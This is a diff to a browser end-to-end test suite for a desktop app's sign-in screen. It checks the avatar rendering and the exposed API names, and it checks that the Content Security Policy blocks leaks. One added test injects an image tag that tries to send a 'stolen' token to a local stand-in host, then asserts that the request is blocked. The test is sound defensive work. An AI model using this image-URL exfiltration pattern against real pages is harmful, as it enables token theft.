@@ -235,7 +235,9 @@ describe('the built renderer in Chromium, on the real core and demo provider', (
     expect(new URL(opener.urls[0] as string).searchParams.get('state')).not.toBe(new URL(parkedUrls[0] as string).searchParams.get('state'));
     expect(await page.locator('#user-name').textContent()).toBe('Alice Liddell');
     expect(await page.locator('#user-email').textContent()).toBe('alice@example.com');
-    expect(await page.locator('#avatar').isVisible()).toBe(true);
+    // The demo's picture, handed over by main as a data: URL (the only images the CSP allows besides the app's own).
+    await expect.poll(() => page.locator('#avatar').isVisible()).toBe(true);
+    expect(await page.locator('#avatar').getAttribute('src')).toMatch(/^data:image\/svg\+xml;base64,/);
     expect(await page.locator('#token-line').textContent()).toMatch(/^Access token refreshed \d\d:\d\d:\d\d, expires \d\d:\d\d:\d\d · bound to this computer \(DPoP\)$/);
     expect(await page.locator('#announcer').textContent()).toBe('Signed in as Alice Liddell.');
     await screenshot('signed-in');
@@ -496,6 +498,7 @@ describe('the built renderer in Chromium, on the real core and demo provider', (
       'getState',
       'offersDeviceSignIn',
       'onStateChange',
+      'profilePicture',
       'refreshAccessToken',
       'requestHeaders',
       'retryKeychain',
@@ -504,6 +507,19 @@ describe('the built renderer in Chromium, on the real core and demo provider', (
       'signOutAll',
       'switchAccount',
     ]);
+    // An image address is no way out for a token: only the app's own images and data: load.
+    const leaked = await page.evaluate(`(async () => {
+      const image = document.createElement('img');
+      const loaded = new Promise((done) => { image.onload = () => done('loaded'); image.onerror = () => done('blocked'); });
+      image.src = 'https://127.0.0.1:9/leak.png?token=stolen';
+      document.body.append(image);
+      const outcome = await loaded;
+      image.remove();
+      return outcome;
+    })()`);
+    expect(leaked).toBe('blocked');
+    expect(await page.evaluate(() => (globalThis as unknown as PageGlobals).__cspViolations)).toEqual(['img-src https://127.0.0.1:9/leak.png?token=stolen']);
+    await page.evaluate(() => void ((globalThis as unknown as PageGlobals).__cspViolations.length = 0));
     const ran = await page.evaluate(`(async () => {
       const script = document.createElement('script');
       script.textContent = 'window.__inlineRan = true';
